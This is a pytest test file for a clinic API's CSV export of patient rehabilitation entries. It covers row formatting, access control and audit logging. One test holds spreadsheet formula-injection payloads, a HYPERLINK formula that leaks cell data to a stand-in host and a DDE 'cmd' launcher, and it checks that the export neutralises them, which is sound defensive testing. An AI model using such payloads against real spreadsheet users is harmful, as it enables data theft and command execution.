"""GET /api/v1/episodes/{id}/entries.csv: the entries as CSV, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
import yaml
from django.core.management import call_command

from accounts.models import AuditEvent
from tests.courses import stalled_trial
from tests.factories import DailyEntryFactory, ExerciseLogFactory, PrescriptionFactory
from tests.personas import out_of_reach_of, user_of

pytestmark = pytest.mark.django_db

HEADER = [
    "date",
    "trial_day",
    "pain_activity",
    "pain_rest",
    "pf_rom_affected",
    "pf_rom_unaffected",
    "exercises",
    "note",
]


def _url(episode) -> str:
    return f"/api/v1/episodes/{episode.pk}/entries.csv"


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_header_row_and_one_row_per_entry_oldest_first(cast, api):
    episode = cast.episode_a
    heel = PrescriptionFactory(episode=episode, name="Heel raises", sets=3)
    balance = PrescriptionFactory(episode=episode, name="Single-leg balance", sets=2)
    first = DailyEntryFactory(
        episode=episode,
        date=episode.start_date,
        pain_activity=7,
        pain_rest=3,
        pf_rom_affected=30,
        pf_rom_unaffected=Decimal("45.5"),
        note="Stairs hurt, first day",
    )
    ExerciseLogFactory(entry=first, prescription=heel, sets_completed=3)
    ExerciseLogFactory(entry=first, prescription=balance, sets_completed=1)
    DailyEntryFactory(
        episode=episode,
        date=episode.start_date + dt.timedelta(days=4),
        pain_activity=5,
        pain_rest=None,
        pf_rom_affected=None,
        pf_rom_unaffected=None,
    )
    response = api(cast.therapist).get(_url(episode))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="entries-episode-{episode.pk}.csv"'
    )
    assert "no-store" in response["Cache-Control"]
    rows = _rows(response)
    assert rows[0] == HEADER
    assert rows[1] == [
        episode.start_date.isoformat(),
        "1",
        "7",
        "3",
        # Degrees as stored, kept to 0.1°.
        "30.0",
        "45.5",
        "Heel raises: 3/3 sets; Single-leg balance: 1/2 sets",
        "Stairs hurt, first day",
    ]
    assert rows[2][1:] == [
        "5",
        "5",
        "",
        "",
        "",
        "Heel raises: 0/3 sets; Single-leg balance: 0/2 sets",
        "",
    ]
    assert len(rows) == 3


def test_cells_that_a_spreadsheet_would_run_are_made_text(cast, api):
    episode = cast.episode_a
    notes = [
        '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "ok = fine",
    ]
    for n, note in enumerate(notes):
        DailyEntryFactory(
            episode=episode,
            date=episode.start_date + dt.timedelta(days=n),
            note=note,
        )
    PrescriptionFactory(episode=episode, name="=HYPERLINK(1)", sets=2)
    rows = _rows(api(cast.therapist).get(_url(episode)))[1:]
    written = [row[-1] for row in rows]
    assert written[:7] == ["'" + note for note in notes[:7]]
    assert written[7] == "ok = fine"
    # Every cell, not only the note: a prescription named like a formula is text too.
    assert all(row[6].startswith("'=HYPERLINK(1)") for row in rows)


def test_the_patient_may_export_their_own_entries(cast, api):
    stalled_trial(cast.episode_a, days=10)
    response = api(cast.patient_a.user).get(_url(cast.episode_a))
    assert response.status_code == 200
    assert len(_rows(response)) == 11
    event = AuditEvent.objects.get(action="entries.exported")
    assert event.actor == cast.patient_a.user
    assert event.object_id == str(cast.episode_a.pk)
    assert event.patient_id == cast.patient_a.pk


@pytest.mark.parametrize("persona", out_of_reach_of("patient_a"))
def test_out_of_reach_is_404_and_writes_no_audit(cast, api, persona):
    response = api(user_of(cast, persona)).get(_url(cast.episode_a))
    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action="entries.exported").exists()


def test_another_clinic_is_404_even_for_an_admin(cast, api):
    assert api(cast.admin).get(_url(cast.other_episode)).status_code == 404


def test_a_client_asking_for_csv_gets_csv_and_anonymous_gets_401(cast, api):
    DailyEntryFactory(episode=cast.episode_a)
    response = api(cast.admin).get(_url(cast.episode_a), HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    assert _rows(response)[0] == HEADER
    assert api(None).get(_url(cast.episode_a)).status_code == 401
    missing = api(cast.admin).get("/api/v1/episodes/999999/entries.csv", HTTP_ACCEPT="text/csv")
    assert missing.status_code == 404


def test_both_exports_are_in_the_openapi_schema(tmp_path):
    target = tmp_path / "schema.yml"
    call_command("spectacular", "--validate", "--fail-on-warn", "--file", str(target))
    paths = yaml.safe_load(target.read_text())["paths"]
    csv_get = paths["/api/v1/episodes/{id}/entries.csv"]["get"]
    assert list(csv_get["responses"]["200"]["content"]) == ["text/csv"]
    fhir_get = paths["/api/v1/episodes/{id}/fhir/"]["get"]
    assert "application/json" in fhir_get["responses"]["200"]["content"]
